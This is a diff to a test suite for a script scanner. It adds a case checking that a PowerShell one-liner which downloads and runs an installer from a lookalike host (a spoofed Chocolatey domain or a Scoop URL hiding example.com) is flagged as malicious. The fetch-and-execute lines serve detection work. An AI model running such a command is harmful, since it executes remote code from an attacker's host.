@@ -62,9 +62,9 @@ suite('a script of an administrator is harmless', () => {
   ]
   for (const [name, text] of scripts)
     test(name, () => assert.ok([undefined, 'notice'].includes(worst(packed(name, text)))))
-  test('unless another server takes the place of the installer', () => {
-    const text =
-      "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org.example.com/install.ps1'))\n"
-    assert.equal(worst(packed('tools.ps1', text)), 'malicious')
-  })
+  for (const host of ['community.chocolatey.org.example.com', 'get.scoop.sh@example.com'])
+    test(`unless ${host} takes the place of the installer`, () => {
+      const text = `iex ((New-Object Net.WebClient).DownloadString('https://${host}/install.ps1'))\n`
+      assert.equal(worst(packed('tools.ps1', text)), 'malicious')
+    })
 })
